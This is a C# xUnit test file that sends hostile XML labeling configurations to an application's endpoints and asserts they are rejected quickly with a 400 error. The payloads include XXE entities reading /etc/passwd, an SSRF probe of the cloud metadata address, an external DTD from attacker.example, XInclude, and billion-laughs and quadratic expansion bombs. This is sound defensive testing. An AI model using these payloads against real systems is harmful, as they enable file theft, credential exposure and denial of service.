using System.Diagnostics;
using System.Net;
using System.Text.Json;

namespace Groundwork.Tests.Security;

/// <summary>
/// Hostile labeling configurations through every endpoint that takes one: DTDs, external entities, entity
/// expansion and deep nesting are refused with 400 naming label_config and the line, quickly, resolving nothing.
/// </summary>
public sealed class BadInputLabelConfigTests(BadInputApps apps) : IClassFixture<BadInputApps>
{
    private static readonly JsonSerializerOptions s_relaxed = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private const string Body = """<View><Text name="t" value="&e;"/><Choices name="c" toName="t"><Choice value="a"/></Choices></View>""";

    public static TheoryData<string, string, string, string> HostileConfigs()
    {
        var laughs = string.Join('\n', new[] { "<!DOCTYPE View [", " <!ENTITY lol \"lol\">" }
            .Concat(Enumerable.Range(1, 9).Select(i => $" <!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{(i == 1 ? string.Empty : i - 1)};", 10))}\">"))
            .Append("]>")
            .Append(Body.Replace("&e;", "&lol9;", StringComparison.Ordinal)));
        var configs = new (string Name, string Xml, string Expect)[]
        {
            ("xxe file", $"<?xml version=\"1.0\"?>\n<!DOCTYPE View [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n{Body}", "DOCTYPE"),
            ("xxe http", $"<!DOCTYPE View [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>{Body}", "DOCTYPE"),
            ("external dtd", $"<!DOCTYPE View SYSTEM \"http://attacker.example/evil.dtd\">{Body}", "DOCTYPE"),
            ("parameter entity", $"<!DOCTYPE View [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]>{Body}", "DOCTYPE"),
            ("internal dtd", $"<!DOCTYPE View [<!ELEMENT View ANY>]>{Body.Replace("&e;", "$t", StringComparison.Ordinal)}", "DOCTYPE"),
            ("billion laughs", laughs, "DOCTYPE"),
            ("quadratic blowup", $"<!DOCTYPE View [<!ENTITY a \"{new string('a', 1000)}\">]>{Body.Replace("&e;", string.Concat(Enumerable.Repeat("&a;", 200)), StringComparison.Ordinal)}", "DOCTYPE"),
            ("undeclared entity", Body, "line 1"),
            ("xinclude", """<View xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/><Text name="t" value="$t"/></View>""", "no control tag"),
            ("deep", "<View>" + string.Concat(Enumerable.Repeat("<a>", 400)) + string.Concat(Enumerable.Repeat("</a>", 400)) + "</View>", "nested"),
            ("unclosed", "<View><Text name=\"t\" value=\"$t\">", "line 1"),
            ("not xml", "{\"View\": []}", "line 1"),
            ("empty", "", "root"),
            ("nul", "<View>\u0000</View>", "line 1"),
        };
        var data = new TheoryData<string, string, string, string>();
        foreach (var provider in new[] { "sqlite", "postgres" })
        {
            foreach (var endpoint in new[] { "create", "update", "validate" })
            {
                foreach (var (name, xml, expect) in configs)
                {
                    data.Add(provider, endpoint, xml, expect);
                }
            }
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(HostileConfigs))]
    public async Task LabelConfig_Hostile_Returns400NamingTheFieldQuicklyAndResolvesNothing(string provider, string endpoint, string xml, string expect)
    {
        var target = await apps.GetAsync(provider);
        var body = JsonSerializer.Serialize(new Dictionary<string, string> { ["name"] = "x", ["label_config"] = xml }, s_relaxed);
        var stopwatch = Stopwatch.StartNew();

        var problem = await BadInputAssert.RefusedAsync(target, client => BadInputJsonTests.SendAsync(target, client, endpoint, body, "application/json"), HttpStatusCode.BadRequest);

        Assert.True(stopwatch.Elapsed < TimeSpan.FromSeconds(5), $"took {stopwatch.Elapsed}");
        var errors = problem["errors"]!["label_config"]!.AsArray().Select(e => e!.GetValue<string>()).ToList();
        Assert.Contains(errors, e => e.Contains(expect, StringComparison.OrdinalIgnoreCase));
        Assert.DoesNotContain(errors, e => e.Contains("root:x:0:0", StringComparison.Ordinal) || e.Contains("lollollol", StringComparison.Ordinal));
    }
}
